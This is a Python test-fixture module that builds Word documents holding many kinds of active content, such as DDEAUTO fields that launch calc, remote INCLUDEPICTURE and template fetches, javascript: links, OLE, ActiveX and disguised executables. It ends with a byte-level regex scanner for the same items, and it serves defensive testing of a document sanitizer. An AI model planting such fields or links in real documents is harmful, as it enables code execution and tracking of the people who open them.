"""Word files that would run, fetch or ask: an attack of each kind, and a scanner of its own that sees them."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from policybuilder.ooxml.zip import read_parts, write_parts
from tests.writers.word_shells import SHELL, picture

MAIN, LINKS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
RELATIONSHIPS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
UI = "http://schemas.microsoft.com/office/2006/relationships/ui"
NAMES = (
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{OFFICE}" xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
)


@dataclass(frozen=True)
class Attack:
    """Something to put into a shell: words of the text, relationships of its part, and parts with their types."""

    says: str
    body: str = ""
    links: str = ""
    parts: dict[str, bytes] = field(default_factory=dict)
    types: str = ""
    part: str = MAIN
    keeps: str = ""
    """Words that must still be there when it has been taken out."""


def attacked(attack: Attack, shell: bytes = SHELL) -> bytes:
    """Return a shell with an attack in it."""
    parts = read_parts(shell, "shell.docx")
    folder, name = attack.part.rsplit("/", 1)
    links = f"{folder}/_rels/{name}.rels"
    empty = RELATIONSHIPS.format("").encode()
    if attack.body:
        end = b"<w:sectPr" if attack.part == MAIN else b"</w:" + re.findall(rb"</w:(\w+)>\s*$", parts[attack.part])[0]
        before, _, after = parts[attack.part].rpartition(end)
        parts[attack.part] = before + attack.body.replace("<w:p>", f"<w:p {NAMES}>").encode() + end + after
    if attack.links:
        old = parts.get(links, empty)
        parts[links] = old.replace(b"</Relationships>", attack.links.encode() + b"</Relationships>")
    parts[TYPES] = parts[TYPES].replace(b"</Types>", attack.types.encode() + b"</Types>")
    return write_parts({**parts, **attack.parts})


def link(kind: str, target: str, external: bool = True, base: str = OFFICE) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/>'


def override(part: str, kind: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def paragraph(content: str) -> str:
    return f"<w:p><w:r><w:t>Near here. </w:t></w:r>{content}</w:p>"


def run(content: str) -> str:
    return f"<w:r>{content}</w:r>"


def complex_field(*instructions: str, result: str = "as it was") -> str:
    texts = "".join(run(f'<w:instrText xml:space="preserve">{text}</w:instrText>') for text in instructions)
    return (
        run('<w:fldChar w:fldCharType="begin"/>')
        + texts
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run(f"<w:t>{result}</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )


def simple_field(instruction: str) -> str:
    quoted = instruction.replace('"', "&quot;")
    return f'<w:fldSimple w:instr="{quoted}"><w:r><w:t>as it was</w:t></w:r></w:fldSimple>'


INSTRUCTIONS = {
    ' DDEAUTO c:\\x.exe "/k calc" ': "DDEAUTO, which starts another program",
    " dde Excel a.xls R1C1 ": "DDE, which starts another program",
    ' INCLUDEPICTURE "http://track.example/p.png" \\d ': "INCLUDEPICTURE, which fetches a picture",
    ' IMPORT "http://track.example/p.png" ': "IMPORT, which fetches",
    ' IncludeText "http://track.example/t.docx" ': "INCLUDETEXT, which fetches",
    ' INCLUDE "c:\\t.docx" ': "INCLUDE, which fetches",
    " LINK Excel.Sheet.8 c:\\a.xls R1C1 \\a ": "LINK, which fetches",
    ' DATABASE \\c "DSN=x" \\s "SELECT 1" ': "DATABASE, which fetches",
    " RD c:\\other.docx ": "RD, which fetches",
    " EMBED Excel.Sheet.8 ": "EMBED, which holds an object",
    " MACROBUTTON Run press here ": "MACROBUTTON, which runs a macro",
    " ADDIN EN.CITE ": "ADDIN, which belongs to an add-in",
    ' PRINT "27" ': "PRINT, which sends commands",
    ' ASK name "Who?" ': "ASK, which asks the reader",
    ' FILLIN "Who?" ': "FILLIN, which asks the reader",
    " AUTOTEXT Signature ": "AUTOTEXT, which prints what the reader",
    " CONTROL Forms.CommandButton.1 ": "CONTROL, which runs a control",
    " HTMLCONTROL x ": "HTMLCONTROL, which runs a control",
    " NEWFIELD x ": "NEWFIELD, which is not one of the usual",
    ' HYPERLINK "javascript:alert(1)" ': "a link to javascript:alert(1)",
    ' HYPERLINK \\o "tip" "file://server/x" ': "a link to file://server/x",
    " HYPERLINK “\\\\\\\\server\\\\share” ": "a link to \\\\",
    ' HYPERLINK "other.docx" \\t "_top" ': "a link to other.docx",
}
NESTED = (
    run('<w:fldChar w:fldCharType="begin"/>')
    + complex_field(' QUOTE "DDEAUTO" ', result="DDEAUTO")
    + run("<w:instrText> c:\\x.exe </w:instrText>")
    + run('<w:fldChar w:fldCharType="separate"/>')
    + run("<w:t>as it was</w:t>")
    + run('<w:fldChar w:fldCharType="end"/>')
)
INNER = (
    run('<w:fldChar w:fldCharType="begin"/><w:instrText> IF 1 = 1 </w:instrText>')
    + complex_field(" DDEAUTO c:\\x.exe ", result="")
    + run('<w:fldChar w:fldCharType="separate"/><w:t>as it was</w:t><w:fldChar w:fldCharType="end"/>')
)
BOX = "<w:pict><v:shape><v:textbox><w:txbxContent><w:p>{}</w:p></w:txbxContent></v:textbox></v:shape></w:pict>"
BLIP = '<w:drawing><a:graphic><a:graphicData><a:blip r:{}="rIdX"/></a:graphicData></a:graphic></w:drawing>'
OBJECT = '<w:object><v:shape o:ole=""/><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdX"/></w:object>'

FIELDS = {
    **{
        f"complex {text}": Attack(says, paragraph(complex_field(text)), keeps="as it was")
        for text, says in INSTRUCTIONS.items()
    },
    **{
        f"simple {text}": Attack(says, paragraph(simple_field(text)), keeps="as it was")
        for text, says in INSTRUCTIONS.items()
    },
    "cut over runs": Attack("DDEAUTO", paragraph(complex_field(" DD", "EAU", "TO c:\\x")), keeps="as it was"),
    "in text that is not marked": Attack(
        "DDEAUTO",
        paragraph(
            run('<w:fldChar w:fldCharType="begin"/><w:t> DDEAUTO c:\\x </w:t><w:fldChar w:fldCharType="separate"/>')
            + run('<w:t>as it was</w:t><w:fldChar w:fldCharType="end"/>')
        ),
        keeps="as it was",
    ),
    "over paragraphs": Attack(
        "DDEAUTO",
        paragraph(run('<w:fldChar w:fldCharType="begin"/>') + run("<w:instrText> DDE</w:instrText>"))
        + "<w:p>"
        + (run("<w:instrText>AUTO c:\\x </w:instrText>") + run('<w:fldChar w:fldCharType="end"/>'))
        + "</w:p>",
    ),
    "never closed": Attack(
        "DDEAUTO", paragraph(run('<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText>'))
    ),
    "never opened": Attack("DDEAUTO", paragraph(run("<w:instrText>DDEAUTO x</w:instrText>"))),
    "deleted": Attack("DDEAUTO", paragraph(complex_field(" DDEAUTO x ").replace("instrText", "delInstrText"))),
    "whose kind a field works out": Attack("whose kind another field works out", paragraph(NESTED), keeps="as it was"),
    "within another": Attack("DDEAUTO", paragraph(INNER), keeps="as it was"),
    "in a text box": Attack("DDEAUTO", paragraph(run(BOX.format(complex_field(" DDEAUTO x ")))), keeps="as it was"),
    "in a header": Attack("a header (word/header2.xml)", paragraph(complex_field(" DDE x ")), part="word/header2.xml"),
    "in a footer": Attack("a footer (word/footer1.xml)", paragraph(simple_field(" DDE x ")), part="word/footer1.xml"),
    "with a tag": Attack("a tag in its instruction", paragraph(complex_field(" PAGE {%r if draft %} "))),
    "with a macro": Attack(
        "a macro that runs when",
        paragraph(
            run(
                '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="X"/></w:ffData></w:fldChar>'
                "<w:instrText> FORMTEXT </w:instrText>"
            )
            + run('<w:fldChar w:fldCharType="separate"/><w:t>as it was</w:t><w:fldChar w:fldCharType="end"/>')
        ),
        keeps="as it was",
    ),
    "deep within one another": Attack(
        "deep within one another",
        paragraph(
            run('<w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText>') * 60
            + run('<w:fldChar w:fldCharType="end"/>') * 60
        ),
    ),
}


def story(kind: str, root: str, inner: str) -> Attack:
    """Return an attack in a part of its own: notes, comments, building blocks."""
    content = f"<w:{root} {NAMES}>{inner.format(paragraph(complex_field(' DDEAUTO x ')))}</w:{root}>".encode()
    base = f"{WORD_TYPE}.{kind.replace('glossaryDocument', 'document.glossary')}"
    name = {"glossaryDocument": "glossary/document"}.get(kind, kind)
    return Attack(
        "DDEAUTO",
        links=link(kind, f"{name}.xml", external=False),
        parts={f"word/{name}.xml": content},
        types=override(f"word/{name}.xml", f"{base}+xml"),
        keeps="as it was",
    )


STORIES = {
    "footnotes": story("footnotes", "footnotes", '<w:footnote w:id="2">{}</w:footnote>'),
    "endnotes": story("endnotes", "endnotes", '<w:endnote w:id="2">{}</w:endnote>'),
    "comments": story("comments", "comments", '<w:comment w:id="2">{}</w:comment>'),
    "building blocks": story(
        "glossaryDocument",
        "glossaryDocument",
        "<w:docParts><w:docPart><w:docPartBody>{}</w:docPartBody></w:docPart></w:docParts>",
    ),
}

BIN = "application/octet-stream"
PARTS = {
    "linked picture": Attack(
        "a linked picture: http://t.example/p.png",
        paragraph(run(BLIP.format("link"))),
        link("image", "http://t.example/p.png"),
    ),
    "linked picture of VML": Attack(
        "a linked picture: http://t.example/p.png",
        paragraph(run('<w:pict><v:shape><v:imagedata r:href="rIdX"/></v:shape></w:pict>')),
        link("image", "http://t.example/p.png"),
    ),
    "picture by address": Attack(
        "a linked picture: http://t.example/p.png",
        paragraph(run('<w:pict><v:shape><v:imagedata src="http://t.example/p.png"/></v:shape></w:pict>')),
    ),
    "fill by address": Attack(
        "a linked picture", paragraph(run('<w:pict><v:rect><v:fill o:href="//server/p.png"/></v:rect></w:pict>'))
    ),
    "shape that runs": Attack(
        "a link to javascript:x", paragraph(run('<w:pict><v:rect href="javascript:x"/></w:pict>'))
    ),
    "altChunk": Attack(
        "altChunk",
        '<w:altChunk r:id="rIdX"/>',
        link("aFChunk", "chunk.html", external=False),
        {"word/chunk.html": b"<html/>"},
        '<Default Extension="html" ContentType="text/html"/>',
    ),
    "altChunk elsewhere": Attack("altChunk", '<w:altChunk r:id="rIdX"/>', link("aFChunk", "http://t.example/a.htm")),
    "subDoc": Attack("subDoc", paragraph('<w:subDoc r:id="rIdX"/>'), link("subDocument", "file:///c:/other.docx")),
    "OLE": Attack(
        "(OLE)",
        paragraph(run(OBJECT)),
        link("oleObject", "ole.bin", external=False),
        {"word/ole.bin": b"x"},
        override("word/ole.bin", BIN),
    ),
    "OLE linked": Attack("(OLE): file:///c:/a.xls", paragraph(run(OBJECT)), link("oleObject", "file:///c:/a.xls")),
    "embedded file": Attack(
        "an embedded file",
        paragraph(run(OBJECT)),
        link("package", "a.xlsm", external=False),
        {"word/a.xlsm": b"PK"},
        override("word/a.xlsm", BIN),
    ),
    "ActiveX": Attack(
        "ActiveX",
        paragraph(run('<w:object><w:control r:id="rIdX" w:name="c"/></w:object>')),
        link("control", "activeX/activeX1.xml", external=False),
        {"word/activeX/activeX1.xml": b"<x/>"},
        override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    ),
    "javascript link": Attack(
        "a link to javascript:alert(1)",
        paragraph('<w:hyperlink r:id="rIdX"><w:r><w:t>as it was</w:t></w:r></w:hyperlink>'),
        link("hyperlink", "javascript:alert(1)"),
        keeps="as it was",
    ),
    "javascript link with spaces": Attack("a link to", links=link("hyperlink", "java&#9;script:alert(1)")),
    "vbscript link": Attack("a link to vbscript:x", links=link("hyperlink", "vbscript:x")),
    "data link": Attack("a link to data:", links=link("hyperlink", "data:text/html,x")),
    "file link": Attack("a link to file:", links=link("hyperlink", "file://server/share/x.docm")),
    "share link": Attack("a link to \\\\server", links=link("hyperlink", "\\\\server\\share")),
    "relative link": Attack("a link to other.docm", links=link("hyperlink", "other.docm")),
    "ms-office link": Attack("a link to ms-word:", links=link("hyperlink", "ms-word:ofe|u|http://t.example/x.docm")),
    "internal javascript": Attack("a link to javascript:x", links=link("hyperlink", "javascript:x", external=False)),
    "action": Attack(
        "an action of a link", paragraph(run('<w:drawing><a:hlinkClick action="ppaction://program"/></w:drawing>'))
    ),
    "film": Attack(
        "a film",
        paragraph(run('<w:drawing><a:videoFile r:link="rIdX"/></w:drawing>')),
        link("video", "http://t.example/v"),
    ),
    "film from the web": Attack(
        "a film from the web",
        paragraph(
            run('<w:drawing><a:ext><x:webVideoPr xmlns:x="urn:x" embeddedHtml="&lt;iframe&gt;"/></a:ext></w:drawing>')
        ),
    ),
    "ribbon": Attack(
        "customUI",
        links=link("extensibility", "customUI.xml", external=False, base=UI),
        parts={"word/customUI.xml": b"<x/>"},
    ),
    "toolbars": Attack(
        "toolbars",
        links=link("attachedToolbars", "tb.bin", external=False),
        parts={"word/tb.bin": b"x"},
        types=override("word/tb.bin", BIN),
    ),
    "keys": Attack(
        "keys", links=link("keyMapCustomizations", "keys.xml", external=False), parts={"word/keys.xml": b"<x/>"}
    ),
    "macros by another name": Attack(
        "macros",
        links=link("vbaProject", "theme.bin", external=False),
        parts={"word/theme.bin": b"x"},
        types=override("word/theme.bin", BIN),
    ),
    "kind that is not known": Attack(
        "not known (surprise)", links=link("surprise", "s.bin", external=False), parts={"word/s.bin": b"x"}
    ),
    "header elsewhere": Attack("something elsewhere (header)", links=link("header", "http://t.example/h.xml")),
    "program as a picture": Attack(
        "a picture that is none",
        links=link("image", "p.png", external=False),
        parts={"word/p.png": b"MZ\x90\0"},
        types='<Default Extension="png" ContentType="image/png"/>',
    ),
    "page as a picture": Attack(
        "a picture that is none",
        links=link("image", "p.png", external=False),
        parts={"word/p.png": b"<html><script>"},
        types='<Default Extension="png" ContentType="image/png"/>',
    ),
    "picture said to be a program": Attack(
        "said to be application/x-msdownload",
        links=link("image", "p.png", external=False),
        parts={"word/p.png": picture()},
        types=override("word/p.png", "application/x-msdownload"),
    ),
    "comments said to be macros": Attack(
        "said to be application/vnd.ms-office.vbaProject",
        links=link("comments", "c.xml", external=False),
        parts={"word/c.xml": b"<x/>"},
        types=override("word/c.xml", "application/vnd.ms-office.vbaProject"),
    ),
    "drawing that runs": Attack(
        "runs or fetches",
        links=link("image", "p.svg", external=False),
        parts={"word/p.svg": SVG.format("<script>x</script>").encode()},
        types=override("word/p.svg", "image/svg+xml"),
    ),
    "drawing that fetches": Attack(
        "runs or fetches",
        links=link("image", "p.svg", external=False),
        parts={"word/p.svg": SVG.format('<image href="http://t.example/x"/>').encode()},
        types=override("word/p.svg", "image/svg+xml"),
    ),
    "font elsewhere": Attack(
        "something elsewhere (font)", links=link("font", "http://t.example/f"), part="word/fontTable.xml"
    ),
    "transform": Attack(
        "an XSL transform",
        '<w:saveThroughXslt r:id="rIdX"/>',
        link("transform", "http://t.example/x.xsl"),
        part="word/settings.xml",
    ),
    "schemas": Attack(
        "schemaLibrary",
        '<s:schemaLibrary xmlns:s="urn:s"><s:schema s:schemaLocation="http://t.example/x"/></s:schemaLibrary>',
        part="word/settings.xml",
    ),
}

ATTACKS = {**FIELDS, **STORIES, **PARTS}
FIELD_BY_FIELD = [
    f"{form} {text}" for at, text in enumerate(INSTRUCTIONS) for form in ("complex", "simple")[:: 1 - at % 2 * 2]
]
"""Each instruction in its two forms, one beside the other; which of them comes first goes in turns."""

FRAMES = (
    f'<w:webSettings {NAMES}><w:frameset><w:frameset><w:frame><w:sourceFileName r:id="rIdX"/></w:frame>'
    "</w:frameset></w:frameset></w:webSettings>"
)
IDLE = {
    "template elsewhere": Attack(
        "a template elsewhere: http://t.example/x.dotm",
        '<w:attachedTemplate r:id="rIdX"/><w:linkStyles/>',
        link("attachedTemplate", "http://t.example/x.dotm"),
        part="word/settings.xml",
    ),
    "template on a disk": Attack(
        "a template elsewhere: file:///S:",
        '<w:attachedTemplate r:id="rIdX"/>',
        link("attachedTemplate", "file:///S:/x.dotx"),
        part="word/settings.xml",
    ),
    "mail merge": Attack(
        "the source of a mail merge",
        '<w:mailMerge><w:dataSource r:id="rIdX"/></w:mailMerge>',
        link("mailMergeSource", "file:///c:/list.mdb"),
        part="word/settings.xml",
    ),
    "mail merge by query": Attack(
        "a mail merge",
        '<w:mailMerge><w:connectString w:val="DSN"/><w:query w:val="SELECT"/></w:mailMerge>',
        part="word/settings.xml",
    ),
    "frame of a link": Attack(
        "the frame that a link opens in: _top",
        paragraph('<w:hyperlink w:tgtFrame="_top" w:anchor="x"><w:r><w:t>as it was</w:t></w:r></w:hyperlink>'),
        keeps="as it was",
    ),
    "frame of a field": Attack(
        "the frame that a link to https://t.example",
        paragraph(complex_field(' HYPERLINK "https://t.example" ', '\\t "_top" ')),
        keeps="as it was",
    ),
    "orphan": Attack(
        "a part that nothing leads to, in evil.bin",
        parts={"word/evil.bin": b"MZ"},
        types=override("word/evil.bin", BIN),
    ),
    "orphan with links": Attack(
        "a part that nothing leads to", parts={"word/x.xml": b"<x/>", "word/_rels/x.xml.rels": b"<x/>"}
    ),
    "printer": Attack(
        "the settings of a printer",
        links=link("printerSettings", "p.bin", external=False),
        parts={"word/p.bin": b"x"},
        types=override("word/p.bin", BIN),
    ),
    "signature": Attack(
        "a digital signature", links=link("origin", "sig.xml", external=False), parts={"word/sig.xml": b"<x/>"}
    ),
    "page of frames": Attack(
        "the target of a frame: http://t.example/f",
        links=link("webSettings", "webSettings.xml", external=False),
        parts={
            "word/webSettings.xml": FRAMES.encode(),
            "word/_rels/webSettings.xml.rels": RELATIONSHIPS.format(link("frame", "http://t.example/f")).encode(),
        },
        types=override(
            "word/webSettings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"
        ),
    ),
}


# A second opinion: what stands in a written package, by its bytes ----------------------------------------

_ACTIVE = re.compile(
    rb"\b(?:DDEAUTO|DDE|INCLUDE\w*|IMPORT|LINK|DATABASE|MACROBUTTON|ADDIN|EMBED|FILLIN|AUTOTEXT|NEWFIELD)\b"
    rb"|altChunk|subDoc|OLEObject|:control\b|script:|vba|activeX|customUI|attachedTemplate|frameset|tgtFrame|mailMerge"
    rb"|t\.example/(?:p|v|f|h|x|a)|saveThroughXslt|schemaLibrary|Macro|file:|\\t ._top|linkStyles|ppaction|webVideo|MZ"
)
_EXTERNAL = re.compile(rb'<Relationship [^>]*TargetMode="External"[^>]*>')


def active_in(written: bytes) -> set[str]:
    """Return what a package holds that it should not, by looking at its bytes alone."""
    parts = read_parts(written, "written.docx")
    linked = {
        b"".join(re.findall(rb'Target="([^"]*)"', found))
        for part in parts.values()
        for found in _EXTERNAL.findall(part)
    }
    bad_links = {target.decode() for target in linked if not re.match(rb"(?:https?|mailto|tel):", target)}
    # Words may be cut up over runs: look at each part's text without its markup, too.
    texts = [text for part in parts.values() for text in (part, re.sub(rb"</?w:[^>]*>", b"", part))]
    said = {found.decode() for text in texts for found in _ACTIVE.findall(text)}
    loose = {
        name
        for name in parts
        if name.rsplit("/", 1)[-1] in ("evil.bin", "x.xml", "p.bin", "sig.xml", "ole.bin", "tb.bin")
    }
    return bad_links | said | loose
